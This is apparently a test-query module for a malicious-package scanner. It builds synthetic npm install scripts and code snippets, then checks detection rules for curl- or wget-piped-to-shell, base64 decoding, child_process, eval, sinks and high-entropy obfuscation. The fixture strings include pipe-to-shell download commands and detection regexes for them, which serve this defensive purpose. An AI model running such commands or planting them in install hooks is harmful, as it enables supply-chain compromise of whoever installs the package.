"""Queries for manifest and code scans: snippets by document number stand for scripts and files."""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from parapet.config import load
from parapet.functions.strings import blank_strings, entropy, is_base64, strip_comments
from parapet.operators import code, manifest
from parapet.queries.base import query, table, values

#: Lifecycle scripts by document number; whole texts follow the first ones.
SCRIPTS = ("curl http://x/y | sh", "wget  u|bash", "echo a | base64 -d", "node -p \"require('child_process')\"", "eval (x)", "node -e 1", "require(x)", "see", "   ")
#: Source files by document number.
SNIPPETS = (
    "const cp = require('child_process'); cp.exec('ls')",
    "import h from 'https'; h.get(u)",
    "x = eval(y); // process.env",
    "/* eval(1) */ let s = 'process.env'; module.exports = s",
    "const f = new Function ('a', 'return a'); vm . runInNewContext(f)",
    "console.log(process.env.HOME)",
    "safeEval(1); o.eval(2); require(name)",
    "vm.runInThisContext(code)",
    "// require('child_process')\nexport default 1",
    "y = \"it's // no comment\"; require('fs')",
)


def config():
    return load(env={})


def _sql_list(items: tuple[str, ...]) -> str:
    return "[" + ", ".join("'" + x.replace("'", "''").replace("\n", "' || chr(10) || '") + "'" for x in items) + "]"


def nth(items: tuple[str, ...], at: Column) -> Column:
    return F.element_at(F.array(*[F.lit(x) for x in items]), (at % len(items) + 1).cast("int"))


def plain(signals: DataFrame) -> DataFrame:
    return signals.select("pkg_id", "rule", F.col("score").cast("double").alias("score"), "veto", "cwe")


_SCRIPTED = f"""s AS (SELECT doc_id::VARCHAR AS pkg_id, ['preinstall', 'install', 'postinstall', 'preuninstall', 'prepare', 'test'][doc_id % 6 + 1] AS hook,
  {_sql_list(SCRIPTS)}[doc_id % 9 + 1] || CASE WHEN doc_id % 9 = 8 THEN '' ELSE ' ' || text END AS script FROM documents),
h AS (SELECT * FROM s WHERE hook <> 'test' AND trim(script) <> ''),
w AS (SELECT *, '[\\t\\n\\f\\r ]' AS ws FROM h),
m AS (SELECT pkg_id, hook, regexp_matches(script, 'curl\\s+[^\\s]+\\s*\\|\\s*(ba)?sh') AS curl, regexp_matches(script, 'wget\\s+[^\\s]+\\s*\\|\\s*(ba)?sh') AS wget,
  regexp_matches(script, 'base64\\s+-d') AS b64, regexp_matches(script, 'require\\s*\\(\\s*[''"]child_process[''"]\\s*\\)|from\\s+[''"]child_process[''"]') AS child,
  regexp_matches(script, '(?:^|[^.\\w$])eval\\s*\\(') AS ev, regexp_matches(script, 'node\\s+-e\\s+') AS node, regexp_matches(script, 'require\\s*\\(\\s*[^''"`]') AS dyn, regexp_matches(script, 'https?://[^\\s''"]+') AS url FROM h)"""


@query(
    "i1_i9_script_rules",
    f"""WITH {_SCRIPTED}, f AS (
SELECT pkg_id, 'install_script_curl_pipe_' || hook AS rule, 0.0 AS score, true AS veto FROM m WHERE curl
UNION ALL SELECT pkg_id, 'install_script_wget_pipe_' || hook, 0.0, true FROM m WHERE wget AND NOT curl
UNION ALL SELECT pkg_id, 'install_script_base64_decode_' || hook, 0.35, false FROM m WHERE b64 AND NOT curl AND NOT wget
UNION ALL SELECT pkg_id, 'install_script_child_process_' || hook, 0.2, false FROM m WHERE child AND NOT curl AND NOT wget
UNION ALL SELECT pkg_id, 'install_script_eval_' || hook, 0.15, false FROM m WHERE ev AND NOT curl AND NOT wget
UNION ALL SELECT pkg_id, 'install_script_node_eval_' || hook, 0.15, false FROM m WHERE node AND NOT curl AND NOT wget
UNION ALL SELECT pkg_id, 'install_script_dynamic_require_' || hook, 0.1, false FROM m WHERE dyn AND NOT curl AND NOT wget
UNION ALL SELECT pkg_id, 'install_script_external_url_' || hook, 0.08, false FROM m WHERE url AND NOT curl AND NOT wget
UNION ALL SELECT pkg_id, 'install_script_present', 0.2, false FROM m WHERE NOT (curl OR wget OR b64 OR child OR ev OR node OR dyn OR url))
SELECT pkg_id, rule, score::DOUBLE AS score, veto, 'CWE-506' AS cwe FROM f""",
)
def scripts(spark, sf):
    d = table(spark, sf, "documents")
    hooks = F.element_at(F.array(*[F.lit(h) for h in (*manifest.HOOKS, "test")]), (F.col("doc_id") % 6 + 1).cast("int"))
    script = F.concat(nth(SCRIPTS, F.col("doc_id")), F.when(F.col("doc_id") % 9 == 8, F.lit("")).otherwise(F.concat(F.lit(" "), "text")))
    return plain(manifest.script_signals(d.select(F.col("doc_id").alias("pkg_id"), F.create_map(hooks, script).alias("scripts")), config()))


@query("i10_veto_stops", f"WITH {_SCRIPTED} SELECT doc_id::VARCHAR AS pkg_id FROM documents WHERE doc_id::VARCHAR NOT IN (SELECT pkg_id FROM m WHERE curl OR wget)")
def i10(spark, sf):
    d = table(spark, sf, "documents")
    hooks = F.element_at(F.array(*[F.lit(h) for h in (*manifest.HOOKS, "test")]), (F.col("doc_id") % 6 + 1).cast("int"))
    script = F.concat(nth(SCRIPTS, F.col("doc_id")), F.when(F.col("doc_id") % 9 == 8, F.lit("")).otherwise(F.concat(F.lit(" "), "text")))
    found = manifest.script_signals(d.select(F.col("doc_id").alias("pkg_id"), F.create_map(hooks, script).alias("scripts")), config())
    return manifest.without_vetoed(d.select(F.col("doc_id").cast("string").alias("pkg_id")), found)


@query("i8_external_urls", "SELECT page_id::VARCHAR AS pkg_id, regexp_matches(html, 'https?://[^\\s''\"]+') AS url FROM pages")
def i8(spark, sf):
    return table(spark, sf, "pages").select(F.col("page_id").cast("string").alias("pkg_id"), F.col("html").rlike(manifest.EXTERNAL_URL).alias("url"))


def files(spark: SparkSession, sf: str) -> DataFrame:
    d = table(spark, sf, "documents")
    end = nth((".js", ".mjs", ".cjs", ".ts", ".json", ".min.js"), F.col("doc_id") / 10)
    folder = nth(("package/", "package/lib/", "src/", "Dist/"), F.col("doc_id"))
    return d.select((F.col("doc_id") % 100).cast("string").alias("pkg_id"), F.concat(folder, F.col("doc_id").cast("string"), end).alias("path"), nth(SNIPPETS, F.col("doc_id")).alias("src"), "text", "doc_id")


_FILES = """f AS (SELECT (doc_id % 100)::VARCHAR AS pkg_id, doc_id, doc_id % 10 AS snippet, text,
  ['package/', 'package/lib/', 'src/', 'Dist/'][doc_id % 4 + 1] || doc_id || ['.js', '.mjs', '.cjs', '.ts', '.json', '.min.js'][(doc_id // 10) % 6 + 1] AS path FROM documents),
j AS (SELECT * FROM f WHERE regexp_matches(path, '\\.(js|mjs|cjs|ts)$'))"""


def nth_file(spark, sf, pkg_id=None):
    """A snippet and the whole text after it."""
    return files(spark, sf).withColumn("pkg_id", F.col("pkg_id") if pkg_id is None else pkg_id).withColumn("src", F.concat("src", F.lit("\n"), F.coalesce("text", F.lit("")))).drop("text", "doc_id")


@query("c1_c9_file_filters", f"WITH {_FILES} SELECT path, regexp_matches(path, '\\.(js|mjs|cjs|ts)$') AS source, regexp_matches(lower(path), '^(package/)?(dist|build|out|lib)/|\\.(min|bundle|prod|umd|cjs|esm|iife)\\.js$') AS bundled FROM f")
def c1(spark, sf):
    return files(spark, sf).select("path", code.is_source(F.col("path")).alias("source"), code.is_bundled(F.col("path")).alias("bundled"))


_LEXED = [
    ("a(); // eval(1)", "a();           ", "a();           "),
    ("/* x\ny */b", "    \n    b", "    \n    b"),
    ("'// no' + `a//b` // c", "'// no' + `a//b`     ", "'     ' + `    `     "),
    ('"it\'s \\" /* q */" /* r */', '"it\'s \\" /* q */"        ', '"               "        '),
    ("x = 1 / 2 / 3", "x = 1 / 2 / 3", "x = 1 / 2 / 3"),
    ("'open // line\nnext", "'open // line\nnext", "'            \nnext"),
    ("`a\n\\\nb` /* é€ */ 'ü\\é'", "`a\n\\\nb`             'ü\\é'", "` \n   `             '     '"),
]


@query("c2_c3_lexer", "SELECT * FROM " + values(_LEXED, "src, code, calls"))
def c2(spark, sf):
    rows = spark.createDataFrame([(s,) for s, _, _ in _LEXED], "src string")
    return rows.withColumn("code", strip_comments(F.col("src"))).withColumn("calls", blank_strings(F.col("code")))


@query("c4_c8_capabilities", f"WITH {_FILES} SELECT pkg_id, bool_or(snippet = 1) AS net_access, bool_or(snippet = 0) AS exec, bool_or(snippet IN (2, 4, 7)) AS dynamic_eval, bool_or(snippet = 5) AS env_read FROM j GROUP BY 1")
def c4(spark, sf):
    return code.capabilities(code.sources(nth_file(spark, sf)))


@query("c5_c7_capability_signals", f"""WITH {_FILES}, c AS (SELECT pkg_id, bool_or(snippet = 0) AS x, bool_or(snippet IN (2, 4, 7)) AS d, bool_or(snippet = 5) AS e FROM j GROUP BY 1)
SELECT pkg_id, 'capability_exec' AS rule, 0.3::DOUBLE AS score, false AS veto, 'CWE-78' AS cwe FROM c WHERE x
UNION ALL SELECT pkg_id, 'capability_dynamic_eval', 0.2, false, 'CWE-94' FROM c WHERE d UNION ALL SELECT pkg_id, 'capability_env_read', 0.1, false, '' FROM c WHERE e""")
def c5(spark, sf):
    return plain(code.capability_signals(code.capabilities(code.sources(nth_file(spark, sf))), config()))


def packed():
    return load(env={}, layer3={"entropy_min_string_len": 20, "entropy_hex_min_len": 32, "entropy_threshold": 3.5})


_PACKED = f"""{_FILES}, l AS (SELECT pkg_id, doc_id, unnest(list_transform(regexp_extract_all(text, '''([^''\\\\]{{20,}})''|"([^"\\\\]{{20,}})"'), lambda m: m[2:-2])) AS s
  FROM j WHERE NOT regexp_matches(lower(path), '^(package/)?(dist|build|out|lib)/|\\.(min|bundle|prod|umd|cjs|esm|iife)\\.js$')),
b AS (SELECT *, regexp_replace(s, '=+$', '') AS bare FROM l),
e AS (SELECT pkg_id, 1 AS total, CASE WHEN list_entropy(string_split(s, '')) >= 3.5 THEN 1 ELSE 0 END AS high,
  CASE WHEN length(bare) >= 20 AND regexp_matches(bare, '^[A-Za-z0-9+/\\r\\n]*$') AND length(regexp_replace(bare, '[\\r\\n]', '', 'g')) % 4 <> 1 THEN 1 ELSE 0 END AS base64 FROM b),
r AS (SELECT pkg_id, len(regexp_extract_all(text, '[0-9a-fA-F]{{32,}}')) AS runs FROM j WHERE NOT regexp_matches(lower(path), '^(package/)?(dist|build|out|lib)/|\\.(min|bundle|prod|umd|cjs|esm|iife)\\.js$')),
t AS (SELECT pkg_id, sum(total)::BIGINT AS total, sum(high)::BIGINT AS high FROM (SELECT pkg_id, total + base64 AS total, high + base64 AS high FROM e UNION ALL SELECT pkg_id, runs, runs FROM r) GROUP BY 1)"""


@query("c10_c13_entropy_counts", f"WITH {_PACKED} SELECT pkg_id, total, high FROM t")
def c10(spark, sf):
    return code.entropy_counts(files(spark, sf).select("pkg_id", "path", F.col("text").alias("src")), packed())


@query("c11_entropy", "SELECT p_name, round(list_entropy(string_split(p_name, '')), 6) AS bits FROM (SELECT DISTINCT p_name FROM part)")
def c11(spark, sf):
    return table(spark, sf, "part").select("p_name").distinct().select("p_name", F.round(entropy(F.col("p_name")), 6).alias("bits"))


_B64 = [("QUJDREVG", True), ("QUJD=", True), ("QUJDR", False), ("a b", False), ("QU\nJD", True), ("A-_B", False), ("ab", False)]


@query("c12_base64", "SELECT * FROM " + values(_B64, "s, packed"))
def c12(spark, sf):
    return spark.createDataFrame([(s,) for s, _ in _B64], "s string").select("s", is_base64(F.col("s"), 4).alias("packed"))


@query("c14_obfuscation", f"WITH {_PACKED} SELECT pkg_id, 'obfuscation_high_entropy' AS rule, round(least(high / total, 1.0) * 0.3, 9)::DOUBLE AS score, false AS veto, '' AS cwe FROM t WHERE total > 0 AND high / total >= 0.2")
def c14(spark, sf):
    return plain(code.obfuscation_signals(code.entropy_counts(files(spark, sf).select("pkg_id", "path", F.col("text").alias("src")), packed()), packed()))


_SINKS = """k AS (SELECT pkg_id, path, unnest(CASE snippet WHEN 2 THEN ['sink_eval'] WHEN 4 THEN ['sink_new_function'] WHEN 6 THEN ['sink_dynamic_require'] WHEN 7 THEN ['sink_vm_run_this_context'] ELSE [] END) AS sink FROM j)"""


@query("c15_c17_sinks", f"WITH {_FILES}, {_SINKS} SELECT DISTINCT pkg_id, sink AS rule, 0.2::DOUBLE AS score, false AS veto, 'CWE-94' AS cwe FROM k")
def c15(spark, sf):
    found = code.sinks(code.sources(nth_file(spark, sf)))
    return plain(code.sink_signals(found, spark.createDataFrame([], "pkg_id string"), config()))


@query("c16_sink_collapse", f"WITH {_FILES}, {_SINKS} SELECT pkg_id, 'sink_with_obfuscation' AS rule, 0.55::DOUBLE AS score, arg_min(sink, path) AS detail FROM k WHERE pkg_id::INT < 50 GROUP BY 1")
def c16(spark, sf):
    found = code.sinks(code.sources(nth_file(spark, sf)))
    hidden = spark.range(50).select(F.col("id").cast("string").alias("pkg_id"))
    return code.sink_signals(found, hidden, config()).filter("rule = 'sink_with_obfuscation'").select("pkg_id", "rule", F.col("score").cast("double").alias("score"), "detail")


@query("c16_sink_collapse_documents")
def c16_documents(spark, sf):
    """Sink signals of documents as packages of their own, hidden where the entropy rule says so."""
    own = nth_file(spark, sf, F.col("doc_id").cast("string"))
    hidden = code.obfuscation_signals(code.entropy_counts(own, packed()), packed()).select("pkg_id").distinct()
    return code.sink_signals(code.sinks(code.sources(own)), hidden, config()).select("pkg_id", "rule", F.col("score").cast("double").alias("score"), "detail")


@query("c18_has_sinks", f"WITH {_FILES}, {_SINKS} SELECT DISTINCT pkg_id FROM k")
def c18(spark, sf):
    return code.has_sinks(code.sinks(code.sources(nth_file(spark, sf))))
